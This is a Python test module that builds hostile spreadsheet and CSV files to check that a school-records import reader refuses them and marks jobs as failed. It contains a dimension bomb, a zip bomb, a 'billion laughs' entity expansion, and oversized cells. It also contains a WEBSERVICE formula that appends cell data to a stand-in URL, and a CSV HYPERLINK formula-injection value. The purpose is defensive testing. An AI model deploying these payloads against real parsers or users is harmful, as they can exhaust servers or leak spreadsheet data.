"""The hostile-file corpus: files built to kill, hang or fool the import reader.

Every file is generated here (nothing binary is committed). The reader tests run without a
database; the job tests check that such a file ends its job as failed, never "running".
"""

from __future__ import annotations

import datetime as dt
import io
import json
import subprocess
import sys
import tempfile
import textwrap
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any
from unittest import mock

from django.test import SimpleTestCase, override_settings
from openpyxl import Workbook

from vnemis.imports import readers, services, xlsx_reader
from vnemis.imports.formats.students import StudentFormat
from vnemis.imports.models import ImportJob
from vnemis.imports.readers import ReadError, open_table, read_table
from vnemis.testing.personas import PersonaTestCase

MEDIA = tempfile.mkdtemp(prefix="vnemis-hostile-")
HEADER = "Họ và tên,Ngày sinh,Giới tính,Dân tộc,Số định danh cá nhân,Mã trường,Khối,Lớp"
ROW = "Vàng Seo Páo,02/05/2013,Nam,H'Mông,010213000101,10082001,3,3A"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
MOMENT = dt.datetime(2021, 9, 5, 7, 15)  # noqa: DTZ001 Excel cells have no time zone


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx(
    rows: str,
    *,
    dimension: str = "A1:B2",
    shared: list[str] | None = None,
    extra: dict[str, bytes] | None = None,
    head: str = "",
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A minimal valid workbook whose first sheet's ``<sheetData>`` holds ``rows``."""
    sheet = (
        f'{head}<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            f'Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PKG}">'
            f'<Relationship Id="rId1" Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    if shared is not None:
        items = "".join(f"<si><t>{s}</t></si>" for s in shared)
        parts["xl/sharedStrings.xml"] = f'<sst xmlns="{MAIN}">{items}</sst>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def save(data: bytes, name: str) -> Path:
    path = Path(tempfile.mkdtemp(prefix="vnemis-hostile-")) / name
    path.write_bytes(data)
    return path


def read(path: Path) -> tuple[list[str], list[tuple[int, list[Any]]], list[str]]:
    with open_table(path, name=path.name) as table:
        return table.headers, list(table.rows), table.notes


def _bomb_rows() -> str:
    return (
        f'<row r="1">{_inline("A1", "Họ và tên")}{_inline("B1", "Lớp")}</row>'
        f'<row r="2">{_inline("A2", "Páo")}{_inline("B2", "3A")}</row>'
    )


class DimensionBombTests(SimpleTestCase):
    # One cell at the last column and row Excel has, in a sheet that declares it spans them
    # all: a reader that allocates by the declared or bounding size asks for 17 billion cells.

    def test_a_5_kb_file_with_a_cell_at_xfd1048576_is_refused_in_small_memory(self) -> None:
        """A cell holding a value at XFD1048576 under a dimension A1:XFD1048576 is refused
        with a message naming the cell, by a process capped at 512 MiB of address space."""
        bomb = xlsx(
            _bomb_rows() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            dimension="A1:XFD1048576",
        )
        self.assertLess(len(bomb), 5 * 1024)
        path = save(bomb, "bom.xlsx")
        # In a child process with a hard memory cap: a reader that allocates by the sheet's
        # size dies there (the old one aborted asking for hundreds of GB), not in the tests.
        script = textwrap.dedent(
            f"""
            import json, os, resource, sys
            resource.setrlimit(resource.RLIMIT_AS, (512 * 2**20, 512 * 2**20))
            os.environ["DJANGO_SETTINGS_MODULE"] = "config.settings"
            import django
            django.setup()
            from pathlib import Path
            from vnemis.imports.readers import ReadError, read_table
            try:
                table = read_table(Path({str(path)!r}), name="bom.xlsx")
                print(json.dumps({{"rows": len(table.rows)}}))
            except ReadError as exc:
                print(json.dumps({{"refused": str(exc)}}))
            """
        )
        child = subprocess.run(
            [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
        )
        self.assertEqual(child.returncode, 0, child.stderr[-2000:])
        outcome = json.loads(child.stdout.strip().splitlines()[-1])
        self.assertIn("XFD1048576", outcome["refused"])
        self.assertIn(str(readers.MAX_COLUMNS), outcome["refused"])

    def test_declared_dimensions_and_empty_far_cells_cost_nothing(self) -> None:
        """A sheet that only declares A1:XFD1048576, and has an empty styled cell there,
        reads as the two rows it holds, two cells wide, in well under a megabyte."""
        path = save(
            xlsx(
                _bomb_rows() + '<row r="1048576"><c r="XFD1048576" s="0"/></row>',
                dimension="A1:XFD1048576",
            ),
            "rong.xlsx",
        )
        tracemalloc.start()
        try:
            headers, rows, notes = read(path)
            _size, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        self.assertEqual(headers, ["Họ và tên", "Lớp"])
        self.assertEqual(rows, [(2, ["Páo", "3A"])])
        self.assertEqual(notes, [])
        self.assertLess(peak, 1 << 20)

    def test_a_row_past_excels_last_row_is_refused(self) -> None:
        """Row numbers above 1,048,576 do not exist in Excel: the file is refused."""
        path = save(
            xlsx(_bomb_rows() + '<row r="2000000"><c r="A2000000"><v>1</v></c></row>'), "x.xlsx"
        )
        with self.assertRaisesRegex(ReadError, "2000000"):
            read(path)


class ArchiveTests(SimpleTestCase):
    def test_a_zip_bomb_is_refused_before_anything_is_unpacked(self) -> None:
        """A valid workbook whose sheet unpacks a thousandfold (60 MB of blanks in 60 KB) is
        refused from the archive's directory: no member is ever opened."""
        padding = " " * (60 * 2**20)
        bomb = xlsx(_bomb_rows() + padding)
        self.assertLess(len(bomb), 200 * 1024)
        path = save(bomb, "bom-zip.xlsx")
        with (
            mock.patch.object(zipfile.ZipFile, "open", side_effect=AssertionError("unpacked")),
            self.assertRaisesRegex(ReadError, "100"),
        ):
            read(path)

    def test_truncated_and_corrupted_archives_are_refused_as_damaged(self) -> None:
        """A workbook cut short, or with bytes of its sheet overwritten, is a ReadError
        (at opening or while the rows are read), never another exception."""
        rows = "".join(
            f'<row r="{i}">{_inline(f"A{i}", f"Học sinh số {i} " * 5)}</row>'
            for i in range(1, 3000)
        )
        good = xlsx(rows, compression=zipfile.ZIP_DEFLATED)
        self.assertEqual(len(read(save(good, "tot.xlsx"))[1]), 2998)
        with self.assertRaises(ReadError):
            read(save(good[: len(good) * 2 // 3], "cut.xlsx"))
        # Overwrite bytes inside the sheet's compressed data; the directory stays intact.
        with zipfile.ZipFile(io.BytesIO(good)) as archive:
            info = archive.getinfo("xl/worksheets/sheet1.xml")
        start = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
        broken = good[:start] + bytes(64) + good[start + 64 :]
        with self.assertRaises(ReadError):
            read(save(broken, "hong.xlsx"))

    def test_an_old_xls_or_a_password_protected_file_is_refused_with_what_to_do(self) -> None:
        """An OLE compound file (.xls, or an encrypted .xlsx) is refused by its first bytes."""
        ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
        with self.assertRaisesRegex(ReadError, r"\.xlsx"):
            read(save(ole, "mat-khau.xlsx"))

    def test_a_macro_workbook_gives_its_values_and_says_the_macros_were_not_run(self) -> None:
        """An .xlsm (with a VBA project) is read for its cell values only, with a note."""
        path = save(
            xlsx(_bomb_rows(), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open"}),
            "macro.xlsm",
        )
        headers, rows, notes = read(path)
        self.assertEqual((headers, rows), (["Họ và tên", "Lớp"], [(2, ["Páo", "3A"])]))
        self.assertEqual(len(notes), 1)
        self.assertIn("macro", notes[0].lower())


class SheetContentTests(SimpleTestCase):
    def test_entity_declarations_are_refused(self) -> None:
        """A DTD in a sheet (entity expansion, "billion laughs") is refused unparsed."""
        head = (
            '<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        )
        path = save(xlsx(_bomb_rows().replace("Páo", "&b;"), head=head), "lol.xlsx")
        with self.assertRaises(ReadError):
            read(path)

    def test_an_overlong_cell_is_refused_naming_it(self) -> None:
        """A cell longer than Excel's 32,767 characters is refused with its reference."""
        path = save(
            xlsx(_bomb_rows() + f'<row r="3">{_inline("B3", "x" * 40_000)}</row>'), "dai.xlsx"
        )
        with self.assertRaisesRegex(ReadError, "B3"):
            read(path)

    def test_an_enormous_shared_string_table_is_refused(self) -> None:
        """More shared strings than the cap: refused before any row is read."""
        rows = (
            '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>49</v></c></row>'
        )
        path = save(xlsx(rows, shared=[f"s{i}" for i in range(50)]), "sst.xlsx")
        with mock.patch.object(xlsx_reader, "MAX_SHARED_STRINGS", 10), self.assertRaises(ReadError):
            read(path)
        self.assertEqual(read(path)[:2], (["s0"], [(2, ["s49"])]))

    def test_formulas_are_never_read_only_their_cached_values(self) -> None:
        """A formula cell gives the value Excel cached, never the formula text; CSV cells that
        look like formulas stay plain text (the export guard handles them on the way out)."""
        rows = (
            f'<row r="1">{_inline("A1", "Họ và tên")}{_inline("B1", "Lớp")}</row>'
            '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x.invalid/?"&amp;B2)</f>'
            '<v>Páo</v></c><c r="B2"><f>1+1</f><v>2</v></c></row>'
        )
        headers, found, _notes = read(save(xlsx(rows), "f.xlsx"))
        self.assertEqual(found, [(2, ["Páo", 2.0])])
        csv = f'{HEADER}\n"=HYPERLINK(""http://x.invalid"",""Bấm"")",02/05/2013\n'.encode()
        table = read_table(save(csv, "f.csv"), name="f.csv")
        self.assertEqual(table.rows[0][1][0], '=HYPERLINK("http://x.invalid","Bấm")')

    def test_excel_values_keep_their_types(self) -> None:
        """Shared and inline strings, numbers, booleans, errors, dates and times by the
        styles' number formats, and _xHHHH_ escapes come out as calamine gave them."""
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(["Tên", "Ngày", "Giờ", "Số", "Đúng", "Lúc"])
        sheet.append(
            [
                "Lò Thị Mai",
                dt.date(2013, 11, 11),
                dt.time(7, 30),
                12.5,
                True,
                MOMENT,
            ]
        )
        buffer = io.BytesIO()
        book.save(buffer)
        headers, rows, _notes = read(save(buffer.getvalue(), "kieu.xlsx"))
        self.assertEqual(headers, ["Tên", "Ngày", "Giờ", "Số", "Đúng", "Lúc"])
        self.assertEqual(
            rows,
            [
                (
                    2,
                    [
                        "Lò Thị Mai",
                        dt.date(2013, 11, 11),
                        dt.time(7, 30),
                        12.5,
                        True,
                        MOMENT,
                    ],
                )
            ],
        )
        escaped = xlsx(
            f'<row r="1">{_inline("A1", "Tên")}</row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>a_x000D_b</t></is></c>'
            '<c r="B2" t="e"><v>#N/A</v></c><c r="C2" t="s"><v>0</v></c></row>',
            shared=["chung"],
        )
        self.assertEqual(read(save(escaped, "e.xlsx"))[1], [(2, ["a\rb", "#N/A", "chung"])])


class CsvTests(SimpleTestCase):
    def test_a_200_kb_cell_is_refused_naming_its_line(self) -> None:
        """A CSV cell over 128 KiB (an unclosed quote swallowing the file) stops the read
        with the line where it starts."""
        data = f'{HEADER}\n{ROW}\n"{"x" * 200_000}",02/05/2013\n{ROW}\n'.encode()
        with self.assertRaises(ReadError) as caught:
            read(save(data, "o-dai.csv"))
        self.assertIn("3:", str(caught.exception))
        self.assertIn(str(readers.CSV_MAX_FIELD), str(caught.exception))

    def test_encodings(self) -> None:
        """UTF-8 with or without BOM and UTF-16 read alike; a legacy TCVN3 file is refused;
        a bad byte after the sample is refused naming the encoding it breaks."""
        text = f"{HEADER}\n{ROW}\n"
        for data in (text.encode(), text.encode("utf-8-sig"), text.encode("utf-16")):
            headers, rows, _notes = read(save(data, "ma.csv"))
            self.assertEqual((headers[0], rows[0][1][0]), ("Họ và tên", "Vàng Seo Páo"))
        with self.assertRaises(ReadError):
            read(save("Hä vµ tªn,Ngµy sinh\nLß ThÞ Mai,¸µ\n".encode("latin-1"), "tcvn3.csv"))
        mixed = (text + f"{ROW}\n" * 2000).encode() + b"\xff\xfe bad\n"
        with self.assertRaisesRegex(ReadError, "UTF-8"):
            read(save(mixed, "tron.csv"))


@override_settings(MEDIA_ROOT=MEDIA)
class HostileJobTests(PersonaTestCase):
    """Whatever the file, the job ends: failed with a message, never left "running"."""

    def run_job(self, path: Path) -> ImportJob:
        source = services.import_file_store(path=path, name=path.name, by=None)
        job = services.import_job_create(
            source=source, kind="students", by=None, dry_run=True, scope_unit=self.world.batxat
        )
        return services.import_job_run(job=job, by=None)

    def test_the_dimension_bomb_fails_the_job_naming_the_cell(self) -> None:
        """The 5 KB bomb ends its job as failed, with the cell in the message."""
        bomb = xlsx(
            _bomb_rows() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            dimension="A1:XFD1048576",
        )
        job = self.run_job(save(bomb, "bom.xlsx"))
        self.assertEqual(job.status, "failed")
        self.assertIn("XFD1048576", job.message)

    def test_a_200_kb_csv_cell_fails_the_job_naming_the_line(self) -> None:
        """The oversize cell at line 3 ends the job as failed (it was left running)."""
        data = f'{HEADER}\n{ROW}\n"{"x" * 200_000}",02/05/2013\n'.encode()
        job = self.run_job(save(data, "o-dai.csv"))
        job.refresh_from_db()
        self.assertEqual((job.status, job.written), ("failed", False))
        self.assertIn("3:", job.message)
        self.assertIsNotNone(job.finished_at)

    def test_any_error_while_rows_are_read_or_applied_fails_the_job(self) -> None:
        """An unexpected exception, or running out of memory, in the middle of the rows
        ends the job as failed with a message; nothing is written."""
        data = f"{HEADER}\n{ROW}\n".encode()
        for error, expected in ((RuntimeError("boom"), "RuntimeError"), (MemoryError(), "")):
            with mock.patch.object(StudentFormat, "parse", side_effect=error):
                job = self.run_job(save(data, "loi.csv"))
            job.refresh_from_db()
            self.assertEqual((job.status, job.written), ("failed", False), error)
            self.assertIn(expected, job.message)
            self.assertNotEqual(job.message, "")
